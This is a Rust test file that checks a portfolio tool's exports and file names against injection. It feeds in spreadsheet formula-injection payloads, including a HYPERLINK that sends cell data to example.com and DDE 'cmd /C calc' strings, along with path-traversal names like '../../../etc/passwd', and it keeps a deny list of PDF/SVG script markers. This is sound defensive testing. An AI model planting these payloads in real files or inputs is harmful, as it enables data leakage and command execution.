//! Names that want to be more than names: whatever leaves the program carries them as text.

use calamine::Reader as _;
use froth::io::import::write_template;
use froth::language::{Language, Text};
use froth::model::assess;
use froth::portfolio::{Holding, Portfolio, Sleeve, StrategySplit};
use froth::report::chart::{ComparisonTable, Subject};
use froth::report::page::{More, PageFormat, PageInput};
use froth::report::provenance::Stamp;
use froth::report::{ExportFormat, ExportInput, default_file_name, export, for_clipboard};
use froth::strategy::metric::Metric;
use froth::strategy::plan::{Preset, Strategy, Workspace};
use froth::strategy::study::{EvaluationCache, Progress, Study};
use std::io::Cursor;

const HOSTILE: [&str; 6] = [
    "=HYPERLINK(\"http://example.com/?\"&A1,\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=HYPERLINK(\"x\")",
    "</t></is></c><c><f>HYPERLINK(\"x\")</f></c>",
];

fn workspace() -> Workspace {
    let mut portfolio = Portfolio::new(HOSTILE[0], jiff::civil::date(2024, 11, 30));
    portfolio.notes = HOSTILE[1].into();
    for (index, name) in HOSTILE.iter().enumerate() {
        let mut holding = Holding::new(*name, StrategySplit::pure(Sleeve::Application), 3.0);
        holding.id = format!("h{index}");
        holding.notes = (*name).into();
        holding.base_model_vendor = Some((*name).into());
        holding.sources = vec![(*name).into()];
        holding.attributes.insert((*name).into(), (*name).into());
        portfolio.holdings.push(holding);
    }
    let mut workspace = Workspace::new(portfolio);
    workspace.strategies = HOSTILE
        .iter()
        .enumerate()
        .map(|(slot, name)| Strategy::new(*name, Preset::ALL[slot % 5].mix(), slot as u8))
        .collect();
    workspace
}

fn with_export<T>(check: impl FnOnce(&ExportInput<'_>) -> T) -> T {
    let workspace = workspace();
    let text = Text::new(Language::English);
    let study = Study::run(&workspace, 64, &Progress::new()).unwrap();
    let comparison = study.compare(&workspace, &mut EvaluationCache::default());
    let subject = Subject {
        workspace: &workspace,
        comparison: &comparison,
        active: 1,
        text: &text,
    };
    let stamp = Stamp {
        model_version: "1".into(),
        portfolio_sha256: "ab".repeat(32),
        exported_at: None,
    };
    let assessments = assess(&workspace.portfolio, &workspace.assumptions());
    let page = PageInput {
        subject,
        map: None,
        insights: &[],
        stamp: &stamp,
        evidence: None,
        more: More::default(),
    };
    check(&ExportInput {
        page,
        page_format: PageFormat::A4Landscape,
        assessments: &assessments,
        net: None,
        beside: None,
    })
}

/// What stands between two marks, each time.
fn between<'a>(text: &'a str, start: &'a str, end: &'a str) -> impl Iterator<Item = &'a str> {
    text.split(start)
        .skip(1)
        .filter_map(move |rest| rest.split(end).next())
}

#[test]
fn no_part_of_a_workbook_makes_a_formula_of_a_name() {
    let bytes = with_export(|input| export(ExportFormat::Xlsx, input).unwrap());
    let parts = crate::hostile::workbooks::unpacked(&bytes).unwrap();
    let mut formulas = 0;
    for (name, bytes) in &parts {
        let text = String::from_utf8_lossy(bytes);
        for formula in between(&text, "<f>", "</f>").chain(between(&text, "<c:f>", "</c:f>")) {
            formulas += 1;
            assert!(
                !formula.contains("HYPERLINK") && !formula.contains("cmd"),
                "{name}: {formula}"
            );
        }
        assert!(!text.contains("<hyperlink"), "{name} holds a link");
        assert!(
            !name.contains("comments") && !name.contains("externalLink"),
            "{name}"
        );
    }
    assert!(formulas > 20, "only {formulas} formulas were looked at");
    let book = calamine::Xlsx::new(Cursor::new(bytes)).unwrap();
    for sheet in book.sheet_names() {
        assert!(!sheet.starts_with(['=', '+', '-', '@']), "{sheet}");
    }
}

#[test]
fn the_template_keeps_names_as_texts() {
    let bytes = write_template(Some(&workspace().portfolio), Language::English).unwrap();
    for (name, bytes) in crate::hostile::workbooks::unpacked(&bytes).unwrap() {
        let text = String::from_utf8_lossy(&bytes);
        assert_eq!(between(&text, "<f>", "</f>").count(), 0, "{name}");
    }
    let mut book = calamine::Xlsx::new(Cursor::new(bytes)).unwrap();
    let range = book.worksheet_range("Holdings").unwrap();
    assert_eq!(range.get_value((2, 0)).unwrap().to_string(), HOSTILE[0]);
}

#[test]
fn neither_csv_nor_clipboard_begins_a_cell_like_a_formula() {
    let csv = with_export(|input| export(ExportFormat::Csv, input).unwrap());
    let mut cells = 0;
    for record in csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_slice())
        .records()
    {
        for cell in &record.unwrap() {
            cells += 1;
            let is_number = cell.parse::<f64>().is_ok();
            assert!(
                is_number || !cell.trim_start().starts_with(['=', '+', '-', '@']),
                "{cell}"
            );
        }
    }
    assert!(cells > 500);
    with_export(|input| {
        let table = ComparisonTable::new(&Metric::ALL, &input.page.subject);
        for line in froth::app::panels::comparison::as_tsv(&table).lines() {
            for cell in line.split('\t') {
                assert!(!cell.trim_start().starts_with(['=', '+', '@']), "{cell}");
            }
        }
    });
    assert_eq!(for_clipboard(HOSTILE[0]), format!("'{}", HOSTILE[0]));
}

#[test]
fn the_page_stays_a_drawing_without_links_or_scripts() {
    for format in [ExportFormat::Svg, ExportFormat::Pdf] {
        let bytes = with_export(|input| export(format, input).unwrap());
        let text = String::from_utf8_lossy(&bytes);
        for word in [
            "<script",
            "<a ",
            "xlink:href=\"http",
            "<foreignObject",
            "/URI",
            "/JavaScript",
            "/Launch",
        ] {
            assert!(!text.contains(word), "{format:?} holds {word}");
        }
    }
}

#[test]
fn no_name_leads_out_of_its_folder() {
    let mut workspace = workspace();
    for name in [
        "../../../etc/passwd",
        "..\\..\\x",
        "/etc/shadow",
        "C:\\boot.ini",
        "con",
        "a\u{0}b",
        "\u{202e}gpj.exe",
        "..",
        ".",
        "",
    ] {
        workspace.portfolio.name = name.into();
        workspace.strategies[0].name = name.into();
        let file = default_file_name(&workspace);
        let path = std::path::Path::new("folder").join(format!("{file}.pdf"));
        assert_eq!(
            path.parent(),
            Some(std::path::Path::new("folder")),
            "{file}"
        );
        assert!(
            !file.contains(['/', '\\', ':', '\u{0}', '\u{202e}']) && !file.starts_with('.'),
            "{file}"
        );
    }
}
